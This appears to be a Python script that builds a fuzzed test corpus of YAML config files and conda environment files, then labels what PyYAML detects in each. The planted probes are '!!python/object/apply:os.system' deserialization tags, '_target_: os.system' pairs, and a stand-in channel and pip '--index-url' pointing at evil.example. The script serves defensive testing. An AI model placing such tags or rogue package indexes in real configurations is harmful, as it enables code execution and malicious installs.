"""Writes YAML documents into a folder, and what PyYAML finds in each: `yaml_documents.py FOLDER COUNT`.

A document is built from random structure and then damaged by a few random edits. In each there is a probe: the tag
`!!python/object/apply:os.system`, or a pair `_target_: os.system`. What is printed says for every
document what PyYAML sees of it: "probe", "other" (a tag or a key that is not plain data), "data", or "refused".
"""

import json
import pathlib
import random
import sys

import yaml

TAG = "tag:yaml.org,2002:python/object/apply:os.system"
PLAIN = {"tag:yaml.org,2002:" + name for name in "str int float bool null map seq merge timestamp value".split()}
CHANNEL = "https://evil.example/c"
OPTION = "--index-url https://evil.example/s"
WORDS = ["a", "b1", "name", "x y", "it's", "1.5", "~", "true", "http://h/p", "a#b", "- x", "k: v", "*", "&", "%", "@", "é"]
EDITS = [" ", "\n", "\t", "#", " #", ": ", ":", "- ", "? ", "'", '"', "[", "]", "{", "}", ",", "|\n", ">-\n", "&a ", "*a", "!", "!!str ",
         "---\n", "...\n", "%TAG ! tag:x,2000:\n", "\\", "\u2028", "\x85", "\r", "\ufeff", "  ", "|2\n", "<<: "]


def scalar(rng):
    word = rng.choice(WORDS)
    style = rng.randrange(5)
    if style == 0:
        return "'" + word.replace("'", "''") + "'"
    if style == 1:
        return '"' + word.replace("\\", "\\\\").replace('"', '\\"') + '"'
    return word if word.isalnum() else "plain"


def probe(rng):
    if rng.randrange(2):
        return [rng.choice(["!!python/object/apply:os.system", "!<" + TAG + ">", "&n !!python/object/apply:os.system"]) + " [x]"]
    key = rng.choice(["_target_", "'_target_'", '"_target_"', "? _target_\n"])
    value = rng.choice(["os.system", "'os.system'", '"os.system"', "!!str os.system", ">-\n      os.system", "\n      os.system"])
    return [key, value]


def node(rng, depth, indent, planted):
    """The lines of a node, the first of them to stand behind `key:` or `-`."""
    kind = rng.randrange(6) if depth < 4 else 5
    pad = " " * indent
    if kind in (0, 1):
        lines = [""]
        at = rng.randrange(3) if not planted[0] else -1
        for i in range(3):
            if i == at:
                planted[0] = True
                put = probe(rng)
                if len(put) == 1:
                    lines.append(f"{pad}k{i}: {put[0]}")
                elif put[0].startswith("?"):
                    lines.append(f"{pad}? _target_\n{pad}: os.system")
                else:
                    lines.append(f"{pad}{put[0]}: {put[1]}")
                continue
            below = node(rng, depth + 1, indent + rng.choice([1, 2, 4]), planted)
            lines.append(f"{pad}k{i}: {below[0]}".rstrip() if below[0] == "" else f"{pad}k{i}: {below[0]}")
            lines += below[1:]
        return lines
    if kind == 2:
        lines = [""]
        for _ in range(2):
            below = node(rng, depth + 1, indent + 2, planted)
            if below[0] == "" and len(below) > 1:
                lines.append(f"{pad}- " + below[1].lstrip(" ") if rng.randrange(2) else f"{pad}-")
                lines += below[1:] if lines[-1].endswith("-") else below[2:]
            else:
                lines.append(f"{pad}- {below[0]}")
                lines += below[1:]
        return lines
    if kind == 3:
        if not planted[0] and rng.randrange(2):
            planted[0] = True
            put = probe(rng)
            inner = put[0] if len(put) == 1 else f"{put[0].strip('? ').strip()}: os.system"
            return [rng.choice(["[%s]", "{a: b, %s}", "[{%s}]"]) % inner]
        return [rng.choice(["[a, b]", "{a: b}", "[a, {b: c}, 'd']", "[a,\n" + pad + " b]"])]
    if kind == 4:
        return [rng.choice(["|", ">", "|-", ">+", "|2"]), f"{pad}  text: here # not a comment", "", f"{pad}  _target_: os.system"]
    return [scalar(rng)]


def document(rng):
    planted = [False]
    text = ""
    while not planted[0]:
        planted = [False]
        text = "\n".join(node(rng, 0, 0, planted)[0:]).lstrip("\n") + "\n"
    return damaged(rng, text)


def damaged(rng, text):
    """`text` after a few random edits, or none."""
    for _ in range(rng.choice([0, 0, 1, 1, 2, 3])):
        at = rng.randrange(len(text) + 1)
        match rng.randrange(3):
            case 0:
                text = text[:at] + rng.choice(EDITS) + text[at:]
            case 1:
                text = text[:at] + text[at + rng.randrange(1, 4):]
            case _:
                text = text[:at] + rng.choice(EDITS) + text[at + 1:]
    return text


def sees(text):
    """What PyYAML sees in `text`."""
    found = set()
    try:
        for root in yaml.compose_all(text, yaml.UnsafeLoader):
            queue, known = [root] if root else [], set()
            while queue:
                at = queue.pop()
                if id(at) in known:
                    continue
                known.add(id(at))
                if at.tag == TAG:
                    found.add("probe")
                elif at.tag not in PLAIN:
                    found.add("other")
                if isinstance(at, yaml.MappingNode):
                    for key, value in at.value:
                        if isinstance(key, yaml.ScalarNode) and "target" in key.value:
                            is_probe = key.value == "_target_" and isinstance(value, yaml.ScalarNode)
                            found.add("probe" if is_probe and value.value == "os.system" else "other")
                        queue += [key, value]
                elif isinstance(at, yaml.SequenceNode):
                    queue += at.value
    except (yaml.YAMLError, ValueError, RecursionError):
        # A program that reads one document after the other has acted on those before the fault.
        return "probe" if "probe" in found else "refused"
    return "probe" if "probe" in found else "other" if found else "data"


def environment(rng):
    """An `environment.yml` with a channel, or an option of pip, that nobody knows, or with neither."""
    channel, option = rng.choice([(CHANNEL, None), (None, OPTION), (None, None)])
    channels = ["conda-forge"] + ([channel] if channel else [])
    pip = ["torch==2.3.0"] + ([option] if option else [])
    quote = lambda text: rng.choice([text, f"'{text}'", f'"{text}"'])
    dash = lambda items, pad: "".join(f"\n{pad}- {quote(item)}" for item in items)
    pad = rng.choice(["", " ", "  "])
    text = "name: x\n"
    if rng.randrange(2):
        text += f"{quote('channels')}: [{', '.join(map(quote, channels))}]\n"
    else:
        text += f"{quote('channels')}:{dash(channels, pad)}\n"
    match rng.randrange(3):
        case 0:
            text += f"dependencies:\n{pad}- python=3.11\n{pad}- {quote('pip')}:{dash(pip, pad + rng.choice(['  ', '    ']))}\n{pad}- scipy=1\n"
        case 1:
            text += f"dependencies: [python=3.11, {{pip: [{', '.join(map(quote, pip))}]}}]\n"
        case _:
            text += f"dependencies:\n{pad}-\n{pad}  pip: [{', '.join(map(quote, pip))}]\n{pad}- python=3.11\n"
    return damaged(rng, text)


def installs(text):
    """What conda would be told by `text`: "probe", "data" where there is nothing but what is usual, or "other"."""
    try:
        found = list(yaml.safe_load_all(text))
    except (yaml.YAMLError, ValueError, RecursionError, TypeError):
        return "refused"
    usual = True
    for value in found:
        if not isinstance(value, dict):
            usual = False
            continue
        lists = [value.get("channels"), *(item.get("pip") for item in value.get("dependencies") or [] if isinstance(item, dict))] \
            if isinstance(value.get("dependencies") or [], list) else [value.get("channels")]
        if any(probe in items for items in lists if isinstance(items, list) for probe in (CHANNEL, OPTION)):
            return "probe"
        usual = usual and value.get("channels") == ["conda-forge"] and all(
            item in ("python=3.11", "scipy=1") or item == {"pip": ["torch==2.3.0"]} for item in value.get("dependencies") or [None]
        ) and set(value) == {"name", "channels", "dependencies"}
    return "data" if usual else "other"


def main(folder, count):
    folder = pathlib.Path(folder)
    rng = random.Random(18)
    expected = {}
    for number in range(count):
        for name, build, look in [("config.yaml", document, sees), ("environment.yml", environment, installs)]:
            path = f"{number:05}/{name}"
            text = build(rng)
            (folder / path).parent.mkdir(parents=True, exist_ok=True)
            (folder / path).write_bytes(text.encode())
            expected[path] = look(text)
    print(json.dumps(expected))


main(sys.argv[1], int(sys.argv[2]))
